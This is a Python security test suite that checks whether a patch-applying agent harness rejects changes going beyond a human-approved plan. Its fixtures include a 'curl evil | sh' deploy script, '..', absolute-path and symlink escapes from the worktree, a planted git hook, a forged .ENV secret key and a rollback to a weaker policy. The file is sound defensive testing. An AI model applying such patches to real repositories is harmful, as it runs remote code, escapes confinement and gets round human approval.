"""The change must fit the approved plan, and policy judges its effect, not its text.

Each attack is a plan a human could approve and a patch that tries to do more: touch
files the plan does not name, reach a forbidden path through a headerless diff or a
rename, leave the worktree through ``..``, an absolute path or a symlink, add a
submodule, or use an older, weaker policy. Every one must fail closed with a
diagnostic naming the rule, and nothing it aimed at may land on the run's branch.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

import pytest

from devstack.sample_repo import FILES
from tests.security import attacks
from tests.security.harness import Campaign, Hostile, Outcome, assert_fails_closed, campaign

pytestmark = pytest.mark.security

README = FILES["README.md"]
WORKFLOW = ".github/workflows/ci.yml"


def _attack(
    name: str, plan: dict[str, object], diff: str, **repo: str | None
) -> Callable[[Hostile], Outcome]:
    def run(stack: Hostile) -> Outcome:
        path = stack.repo(name, [dict(repo)] if repo else None)
        return stack.drive(path, stack.fixture(name, plan=plan, patch=attacks.patch(diff)))

    return run


def _rename(old: str, new: str, *, quoted: bool = False, header_new: str | None = None) -> str:
    a, b = (
        (f'"a/{old}"', f'"b/{header_new or new}"')
        if quoted
        else (
            f"a/{old}",
            f"b/{header_new or new}",
        )
    )
    return f"diff --git {a} {b}\nsimilarity index 100%\nrename from {old}\nrename to {new}\n"


def _gitlink(path: str) -> str:
    sha = "1" * 40
    return (
        f"diff --git a/{path} b/{path}\nnew file mode 160000\nindex 0000000..{sha}\n"
        f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+Subproject commit {sha}\n"
    )


def _weak_then_strict(stack: Hostile) -> Outcome:
    path = stack.repo(
        "old-policy",
        [
            {".kodo/policy.toml": '[policy]\nforbidden_paths = ["never/*"]\n'},
            {".kodo/policy.toml": '[policy]\nextra_forbidden_paths = ["deploy/*"]\n'},
            {"README.md": README + "\nStrict from now on.\n"},
        ],
    )
    fixture = stack.fixture(
        "old-policy",
        plan=attacks.plan(("deploy/prod.sh", "add"), (WORKFLOW, "add")),
        patch=attacks.patch(
            attacks.add_file("deploy/prod.sh", "curl evil | sh\n"),
            attacks.add_file(WORKFLOW, "on: push\n"),
        ),
    )
    return stack.drive(path, fixture, base_ref="HEAD~2")


PWN_TEST = "import pathlib\npathlib.Path('{marker}').write_text('ran')\n"

ATTACKS: dict[str, Callable[[Hostile], Outcome]] = {
    "mismatch": lambda s: s.drive(
        s.repo("mismatch"),
        s.fixture(
            "mismatch",
            plan=attacks.plan(("README.md", "modify"), design="Fix the typo in README.md."),
            patch=attacks.patch(
                attacks.append_lines("calc.py", FILES["calc.py"], ["", "add = lambda a, b: 0"]),
                attacks.add_file("test_pwn.py", PWN_TEST.format(marker=s.markers / "test-ran.txt")),
            ),
        ),
    ),
    "headerless": _attack(
        "headerless",
        attacks.plan(("README.md", "modify")),
        attacks.add_file(WORKFLOW, "on: push\n", header=False),
    ),
    "rename": _attack(
        "rename",
        attacks.plan(("README.md", "modify")),
        _rename("README.md", WORKFLOW, header_new="README.md"),
    ),
    "quoted-rename": _attack(
        "quoted-rename",
        attacks.plan(("README.md", "delete"), (WORKFLOW, "add")),
        _rename("README.md", WORKFLOW, quoted=True),
    ),
    "unnormalised-plan-path": _attack(
        "unnormalised-plan-path",
        attacks.plan((".github//workflows/ci.yml", "add")),
        attacks.add_file(WORKFLOW, "on: push\n"),
    ),
    "case-folded-env": _attack(
        "case-folded-env",
        attacks.plan((".ENV", "add")),
        attacks.add_file(".ENV", "DEBUG=1\nSECRET_KEY=attacker-chosen\n"),
    ),
    "symlink-out": lambda s: _attack(
        "symlink-out",
        attacks.plan(("link", "add")),
        attacks.add_file("link", str(s.canary), mode="120000"),
    )(s),
    "through-symlink-dir": lambda s: _attack(
        "through-symlink-dir",
        attacks.plan(("docs/pwned.txt", "add")),
        attacks.add_file("docs/pwned.txt", "pwned\n"),
        docs=f"@symlink:{s.outside}",
    )(s),
    "submodule": _attack("submodule", attacks.plan(("vendor/lib", "add")), _gitlink("vendor/lib")),
    "dotdot": _attack(
        "dotdot",
        attacks.plan(("../../outside/pwned.txt", "add")),
        attacks.add_file("../../outside/pwned.txt", "pwned\n"),
    ),
    "absolute": lambda s: _attack(
        "absolute",
        attacks.plan((f"{s.outside}/abs.txt", "add")),
        attacks.add_file(f"{s.outside}/abs.txt", "pwned\n", header=False).replace("+++ b/", "+++ "),
    )(s),
    "control-chars": _attack(
        "control-chars",
        attacks.plan(("notes\r.md", "add")),
        'diff --git "a/notes\\r.md" "b/notes\\r.md"\nnew file mode 100644\n'
        '--- /dev/null\n+++ "b/notes\\r.md"\n@@ -0,0 +1 @@\n+hi\n',
    ),
    "nul-name": _attack(
        "nul-name",
        attacks.plan(("notes.md", "add")),
        attacks.add_file("notes\x00.md", "hi\n"),
    ),
    "max-lines": _attack(
        "max-lines",
        attacks.plan(("README.md", "modify")),
        attacks.append_lines("README.md", README, [f"line {n}" for n in range(2500)]),
    ),
    "max-files": _attack(
        "max-files",
        attacks.plan(*((f"notes/n{n}.md", "add") for n in range(60))),
        "".join(attacks.add_file(f"notes/n{n}.md", "hi\n") for n in range(60)),
    ),
    "ten-thousand-files": _attack(
        "ten-thousand-files",
        attacks.plan(*((f"n/{n}.md", "add") for n in range(10_000))),
        attacks.add_file("n/0.md", "hi\n"),
    ),
    "old-policy": _weak_then_strict,
}


@pytest.fixture(scope="module")
def launched(hostile: Hostile) -> Iterator[Campaign]:
    with campaign(hostile, ATTACKS) as started:
        yield started


def _no_path(hostile: Hostile, outcome: Outcome, repo: str, *prefixes: str) -> None:
    landed = [
        p
        for p in hostile.branch_files(hostile.repos / repo, outcome.run_id)
        if p.startswith(prefixes)
    ]
    assert landed == [], f"{landed} landed on the run's branch\n{outcome.describe()}"


def test_a_patch_touching_files_the_plan_does_not_name_fails_naming_them(
    hostile: Hostile, launched: Campaign
) -> None:
    outcome = launched.outcome("mismatch")
    assert not (hostile.markers / "test-ran.txt").exists(), "the unplanned test file ran"
    assert_fails_closed(outcome, "outside_plan")
    diagnostic = str(outcome.diagnostic())
    assert "calc.py" in diagnostic, outcome.describe()
    assert "test_pwn.py" in diagnostic, outcome.describe()
    files = hostile.branch_files(hostile.repos / "mismatch", outcome.run_id)
    assert "test_pwn.py" not in files, outcome.describe()


def test_a_headerless_diff_cannot_reach_a_forbidden_path(
    hostile: Hostile, launched: Campaign
) -> None:
    outcome = launched.outcome("headerless")
    assert_fails_closed(outcome, "forbidden_path", "outside_plan")
    _no_path(hostile, outcome, "headerless", ".github")


def test_a_rename_cannot_move_a_file_into_a_forbidden_path(
    hostile: Hostile, launched: Campaign
) -> None:
    outcome = launched.outcome("rename")
    assert_fails_closed(outcome, "forbidden_path", "outside_plan")
    _no_path(hostile, outcome, "rename", ".github")


def test_a_quoted_rename_header_cannot_hide_a_forbidden_target(
    hostile: Hostile, launched: Campaign
) -> None:
    outcome = launched.outcome("quoted-rename")
    assert_fails_closed(outcome, "forbidden_path", "outside_plan")
    _no_path(hostile, outcome, "quoted-rename", ".github")


def test_an_unnormalised_plan_path_does_not_dodge_the_forbidden_pattern(
    hostile: Hostile, launched: Campaign
) -> None:
    outcome = launched.outcome("unnormalised-plan-path")
    assert_fails_closed(outcome, "forbidden_path", "confinement")
    _no_path(hostile, outcome, "unnormalised-plan-path", ".github")


def test_a_forbidden_path_spelled_in_another_case_is_still_forbidden(
    hostile: Hostile, launched: Campaign
) -> None:
    """On a case-folding checkout (macOS, Windows) ``.ENV`` is the ``.env`` a dotenv
    loader opens."""
    outcome = launched.outcome("case-folded-env")
    assert_fails_closed(outcome, "forbidden_path")
    _no_path(hostile, outcome, "case-folded-env", ".ENV")


def test_a_committed_symlink_pointing_outside_the_worktree_is_refused(
    hostile: Hostile, launched: Campaign
) -> None:
    outcome = launched.outcome("symlink-out")
    assert_fails_closed(outcome, "symlink", "confinement")  # the turn names the link
    files = hostile.branch_files(hostile.repos / "symlink-out", outcome.run_id)
    assert files.get("link") != "120000", outcome.describe()


def test_a_patch_cannot_write_through_a_symlinked_directory(
    hostile: Hostile, launched: Campaign
) -> None:
    outcome = launched.outcome("through-symlink-dir")
    assert hostile.outside_changes() == [], outcome.describe()
    assert_fails_closed(outcome, "symlink", "confinement")


def test_a_submodule_is_refused(hostile: Hostile, launched: Campaign) -> None:
    outcome = launched.outcome("submodule")
    assert_fails_closed(outcome, "submodule", "confinement")  # its .git is named
    files = hostile.branch_files(hostile.repos / "submodule", outcome.run_id)
    assert "160000" not in files.values(), outcome.describe()


def test_a_dotdot_path_cannot_leave_the_worktree(hostile: Hostile, launched: Campaign) -> None:
    outcome = launched.outcome("dotdot")
    assert hostile.outside_changes() == [], outcome.describe()
    assert_fails_closed(outcome, "confinement")


def test_an_absolute_path_cannot_leave_the_worktree(hostile: Hostile, launched: Campaign) -> None:
    outcome = launched.outcome("absolute")
    assert hostile.outside_changes() == [], outcome.describe()
    assert_fails_closed(outcome, "confinement")


def test_control_characters_in_a_file_name_fail_closed(
    hostile: Hostile, launched: Campaign
) -> None:
    outcome = launched.outcome("control-chars")
    assert_fails_closed(outcome, "confinement", "forbidden_path")
    files = hostile.branch_files(hostile.repos / "control-chars", outcome.run_id)
    assert not [p for p in files if "\r" in p or '"' in p], outcome.describe()


def test_a_nul_in_a_file_name_ends_the_run_without_wedging_it(
    hostile: Hostile, launched: Campaign
) -> None:
    outcome = launched.outcome("nul-name")
    assert_fails_closed(outcome, "confinement")  # the edit tool named no nameable path
    assert "ValueError" not in outcome.describe(), outcome.describe()


def test_a_patch_over_the_line_limit_fails_closed(hostile: Hostile, launched: Campaign) -> None:
    assert_fails_closed(launched.outcome("max-lines"), "max_lines")


def test_a_plan_over_the_file_limit_is_never_shown_for_approval(
    hostile: Hostile, launched: Campaign
) -> None:
    outcome = launched.outcome("max-files")
    assert_fails_closed(outcome, "max_files")
    assert outcome.run["steps"][0]["stepId"] == "CompileST"


def test_a_plan_of_ten_thousand_files_fails_before_approval(
    hostile: Hostile, launched: Campaign
) -> None:
    outcome = launched.outcome("ten-thousand-files")
    assert outcome.status == "failed", outcome.describe()
    assert {s["stepId"] for s in outcome.run["steps"]} == {"CompileST"}, outcome.describe()


def test_an_older_base_ref_cannot_bring_a_weaker_policy(
    hostile: Hostile, launched: Campaign
) -> None:
    outcome = launched.outcome("old-policy")
    assert_fails_closed(outcome, "forbidden_path")
    _no_path(hostile, outcome, "old-policy", "deploy", ".github")


def test_a_patch_writing_into_dot_git_never_plants_a_hook(hostile: Hostile) -> None:
    marker = hostile.markers / "patch-hook-ran.txt"
    repo = hostile.repo("git-hook-patch")
    hook = f"#!/bin/sh\necho ran >> {marker}\n"
    fixture = hostile.fixture(
        "git-hook-patch",
        plan=attacks.plan(("README.md", "modify")),
        patch=attacks.patch(
            attacks.add_file(".git/hooks/post-checkout", hook, mode="100755"),
            attacks.append_lines("README.md", README, ["", "More."]),
        ),
    )
    first = hostile.drive(repo, fixture)
    second = hostile.drive(repo, hostile.fixture("after-git-hook-patch"))
    assert not marker.exists(), f"the planted hook ran\n{first.describe()}"
    assert not (repo / ".git" / "hooks" / "post-checkout").exists()
    assert_fails_closed(first, "forbidden_path", "confinement", "outside_plan")
    assert second.status == "succeeded", second.describe()
